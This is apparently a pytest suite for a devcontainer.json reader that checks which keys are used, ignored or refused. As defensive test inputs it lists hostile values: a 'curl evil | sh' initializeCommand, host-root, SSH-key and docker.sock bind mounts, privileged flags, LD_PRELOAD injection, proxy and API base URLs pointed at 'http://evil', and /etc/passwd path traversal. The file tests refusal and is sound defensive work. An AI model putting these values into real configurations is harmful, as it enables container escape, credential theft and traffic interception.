"""devcontainer.json: every key of the specification, and what a repository can try with it."""

from __future__ import annotations

import json
from contextlib import suppress
from typing import Any, get_args

import pytest

from ctui.environments.definition.definition import (
    Definition,
    Found,
    KeyReport,
    Status,
    Step,
    VolumeMount,
)
from ctui.environments.definition.devcontainer import read_devcontainer
from ctui.environments.definition.devcontainer_keys import RUN_ARGS, SPEC_KEYS
from ctui.environments.definition.repository_file import KEYS, environment_of
from ctui.environments.definition.variables import Names
from ctui.errors import InvalidInput, NotFound
from tests.docs.pages import DOCS
from tests.environments.services.files import FilesOfTest

FILE = ".devcontainer/devcontainer.json"


COMPOSE = {
    ".devcontainer/docker-compose.yml": (
        "services:\n  app: {image: debian}\n  db: {image: postgres}\n  web: {image: nginx}\n"
    )
}


def read(said: dict[str, Any], file: str = FILE) -> Found:
    return read_devcontainer(json.dumps(said), file, Names("an-id"), FilesOfTest(COMPOSE))


def definition(**said: Any) -> Definition:
    return read({"image": "debian", **said}).definition


def reports(said: dict[str, Any]) -> dict[str, KeyReport]:
    return {one.key: one for one in read(said).keys}


def placed(key: str, example: Any) -> dict[str, Any]:
    """Return a file with this key, and with what it needs beside it."""
    first, _, inner = key.partition(".")
    base: dict[str, Any] = {"image": "debian"}
    if key in {"dockerComposeFile", "service", "runServices"}:
        return {"dockerComposeFile": "docker-compose.yml", "service": "app", key: example}
    if key in {"image", "dockerFile", "context"} or first == "build":
        base = {} if key in {"image", "dockerFile"} else {"dockerFile": "Dockerfile"}
        if first == "build":
            return {"build": {"dockerfile": "Dockerfile", inner: example}}
    return {**base, key: example}


@pytest.mark.parametrize("key", sorted(SPEC_KEYS))
def test_each_key_of_the_specification_has_a_status_and_a_reason(key: str) -> None:
    """Done when: the keys as a table, used / ignored / refused, an example each."""
    known = SPEC_KEYS[key]
    assert known.status in get_args(Status)
    found = reports(placed(key, known.example))
    if key == "runArgs":
        assert found["runArgs: --shm-size 1g"].status == "ignored"
        return
    if key == "mounts":
        assert found["mounts: volume at /cache"].status == "used"
        return
    assert found[key] == KeyReport(key, FILE, known.status, known.reason)
    page = (DOCS / "environments.md").read_text(encoding="utf-8")
    assert f"| `{key}` | {known.status} | {known.reason} |" in page


@pytest.mark.parametrize("key", sorted(KEYS))
def test_each_key_of_the_table_is_read_and_told(key: str) -> None:
    words, example = KEYS[key]
    found = environment_of({key: example}, "f", "repository")
    assert found.keys[0].reason == words
    changed = found.definition != Definition(source="repository", file="f")
    assert changed == (found.keys[0].status == "used")
    page = (DOCS / "environments.md").read_text(encoding="utf-8")
    assert f"| `{key}` | {words} | `{key} = " in page


@pytest.mark.parametrize("option", sorted(RUN_ARGS))
def test_each_argument_of_run_args_is_told(option: str) -> None:
    known = RUN_ARGS[option]
    value = ["A=b"] if known.takes_value else []
    found = read({"image": "x", "runArgs": [option, *value]}).keys
    told = next(one for one in found if one.key.startswith("runArgs: "))
    assert (told.status, told.reason) == (known.status, known.reason)
    page = (DOCS / "environments.md").read_text(encoding="utf-8")
    assert f"| `{option}` | {known.status} | {known.reason} |" in page
    assert len([one for one in found if one.key.startswith("runArgs: ")]) == 1


@pytest.mark.parametrize(
    "said",
    [
        {"privileged": True},
        {"capAdd": ["SYS_ADMIN"]},
        {"securityOpt": ["seccomp=unconfined"]},
        {"initializeCommand": "curl evil | sh"},
        {"runArgs": ["--network=host"]},
        {"runArgs": ["--net", "host"]},
        {"runArgs": ["-v", "/:/host"]},
        {"runArgs": ["--device=/dev/mem"]},
        {"mounts": ["source=/,target=/host,type=bind"]},
        {"mounts": ["source=${localEnv:HOME}/.ssh,target=/ssh,type=bind"]},
        {"mounts": [{"source": "/var/run/docker.sock", "target": "/sock", "type": "bind"}]},
        {"mounts": [{"source": "/etc", "target": "/x"}]},
        {"mounts": ["source=../../etc,target=/x,type=volume"]},
        {"mounts": ["type=volume,target=/ctui/bin,source=a"]},
        {"mounts": ["type=volume,target=/workspace/../etc,source=a"]},
        {"mounts": ["type=volume,target=/,source=a"]},
        {"containerEnv": {"LD_PRELOAD": "/tmp/x.so"}},
        {"remoteEnv": {"ANTHROPIC_BASE_URL": "http://evil"}},
        {"remoteEnv": {"https_proxy": "http://evil"}},
        {"containerEnv": {"GIT_SSH_COMMAND": "x"}},
        {"runArgs": ["-e", "BASH_ENV=/x"]},
    ],
)
def test_what_would_break_the_seal_is_refused_and_the_rest_counts(said: dict[str, Any]) -> None:
    """`initializeCommand`, `privileged`, `capAdd`, host networks and binds never."""
    found = read({"image": "debian", **said})
    assert [one for one in found.keys if one.status == "refused"]
    made = found.definition
    assert made == Definition(source="devcontainer", file=FILE, image="debian")


def test_refused_keys_that_ask_for_nothing_are_no_refusal() -> None:
    found = reports({"image": "x", "privileged": False, "capAdd": [], "initializeCommand": ""})
    assert {one.status for key, one in found.items() if key != "image"} == {"ignored"}


def test_an_unknown_key_is_ignored_with_a_line() -> None:
    """Bad input: unknown keys."""
    found = reports({"image": "x", "frobnicate": 1, "\u001b[31m": 2})
    assert found["frobnicate"].status == "ignored"
    assert found["frobnicate"].reason == "it is not in the specification"
    assert all(one.key.isprintable() for one in found.values())


def test_commands_as_a_text_a_list_and_an_object() -> None:
    made = definition(
        postCreateCommand={"a": "make", "b": ["echo", "a b"]}, onCreateCommand=["npm", "ci"]
    )
    assert made.steps == (
        Step("onCreateCommand", "npm ci"),
        Step("postCreateCommand", "make"),
        Step("postCreateCommand", "echo 'a b'"),
    )


def test_commands_of_each_start_are_no_part_of_the_set_up() -> None:
    made = definition(postStartCommand={"a": "service db start", "b": ["x", "y z"]})
    steps = [Step("postStartCommand", one) for one in ("service db start", "x 'y z'")]
    assert (made.start_steps, made.steps) == (tuple(steps), ())


def test_a_volume_is_used() -> None:
    made = definition(mounts=["source=cache-${devcontainerId},target=/cache,type=volume"])
    assert made.volumes == (VolumeMount("cache-an-id", "/cache"),)


def test_the_build_is_found_from_the_file_and_from_the_root() -> None:
    inside = read({"build": {"dockerfile": "Dockerfile", "context": ".."}}).definition
    assert (inside.dockerfile, inside.context) == (".devcontainer/Dockerfile", "")
    named = read({"build": {"dockerfile": "x/D"}}, ".devcontainer/go/devcontainer.json").definition
    assert (named.dockerfile, named.context) == (".devcontainer/go/x/D", ".devcontainer/go")
    root = read({"dockerFile": "D", "context": "."}, ".devcontainer.json").definition
    assert (root.dockerfile, root.context) == ("D", "")


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"image": "a", "build": {"dockerfile": "b"}},
        {"build": {}},
        {"build": {"context": "."}},
        {"image": ["a"]},
        {"image": "a\u001b"},
        {"image": "a", "containerEnv": ["x"]},
        {"image": "a", "containerEnv": {"A": {"b": 1}}},
        {"image": "a", "containerEnv": {"A": "one\ntwo"}},
        {"image": "a", "postCreateCommand": 3},
        {"image": "a", "postCreateCommand": [1]},
        {"image": "a", "mounts": "x"},
        {"build": {"dockerfile": "../../../etc/passwd"}},
        {"build": {"dockerfile": "/etc/passwd"}},
        {"build": {"dockerfile": "D", "context": "../.."}},
        {"build": {"dockerfile": "D", "args": {"a b": "1"}}},
        {"image": "a", "containerEnv": {"A": "${containerEnv:B}", "B": "${containerEnv:A}"}},
        {"image": "a", "remoteEnv": {"A": "${containerEnv:B}", "B": "x${containerEnv:A}"}},
    ],
)
def test_what_cannot_be_used_is_one_line(said: dict[str, Any]) -> None:
    """Bad input: among it a cycle of variables, and a path out of the repository."""
    with pytest.raises(InvalidInput) as caught:
        read(said)
    assert caught.value.one_line().isprintable()


def test_a_compose_file_that_cannot_be_had_is_not_replaced_by_the_default_image() -> None:
    with pytest.raises(NotFound, match=r"compose\.yml is not a file of the commit"):
        read({"dockerComposeFile": "compose.yml", "service": "app"})
    with pytest.raises(InvalidInput, match="exclude each other"):
        read({"dockerComposeFile": "docker-compose.yml", "service": "app", "image": "debian"})
    for said in ({}, {"service": "nope"}):
        with pytest.raises(InvalidInput, match="there is no service"):
            read({"dockerComposeFile": "docker-compose.yml", **said})
    with pytest.raises(InvalidInput, match="out of the repository"):
        read({"dockerComposeFile": "../../compose.yml", "service": "app"})


def test_keys_of_compose_files_mean_nothing_without_one() -> None:
    for key, value in (("service", "app"), ("runServices", ["db"])):
        assert reports({"image": "x", key: value})[key].status == "ignored"


@pytest.mark.parametrize("depth", [300, 600, 900, 2000, 100_000])
def test_whatever_its_depth_it_is_read_or_refused(depth: int) -> None:
    nested = "[" * depth + "]" * depth
    text = f'{{"image": "x", "customizations": {nested}}}'
    with suppress(InvalidInput):
        assert read_devcontainer(text, "f", Names("an-id"), FilesOfTest({})).definition.image == "x"


@pytest.mark.parametrize(
    "name", ["HTTP_PROXY", "https_proxy", "FTP_PROXY", "no_proxy", "ALL_PROXY"]
)
def test_no_argument_of_a_build_goes_around_the_engine_s_cache(name: str) -> None:
    """A layer that came through it would be taken for another repository's same instruction."""
    said = {"build": {"dockerfile": "Dockerfile", "args": {name: "http://evil", "A": "1"}}}
    found = read_devcontainer(json.dumps(said), "f", Names("an-id"), FilesOfTest({}))
    assert found.definition.args == {"A": "1"}
    [refusal] = [one for one in found.keys if one.status == "refused"]
    assert refusal.key == f"build.args.{name}"


@pytest.mark.parametrize("command", ["echo \ud800", ["echo", "a\udfff"], {"\ud800": "echo \0"}])
def test_a_command_that_is_no_text_is_refused(command: object) -> None:
    """JSON can say halves of characters, which nothing can write down."""
    text = json.dumps({"image": "x", "postCreateCommand": command})
    with pytest.raises(InvalidInput, match="that no command can have"):
        read_devcontainer(text, "f", Names("an-id"), FilesOfTest({}))
